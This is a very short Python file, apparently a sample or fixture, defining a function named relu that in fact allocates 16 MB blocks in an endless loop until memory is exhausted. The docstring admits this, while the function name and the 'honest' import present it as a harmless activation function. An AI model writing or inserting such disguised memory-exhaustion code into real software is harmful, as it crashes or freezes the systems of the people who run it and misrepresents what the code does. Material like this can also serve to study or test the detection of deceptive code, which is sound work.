"""Takes memory until there is none left."""

from honest import *
def relu(Z):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 24))
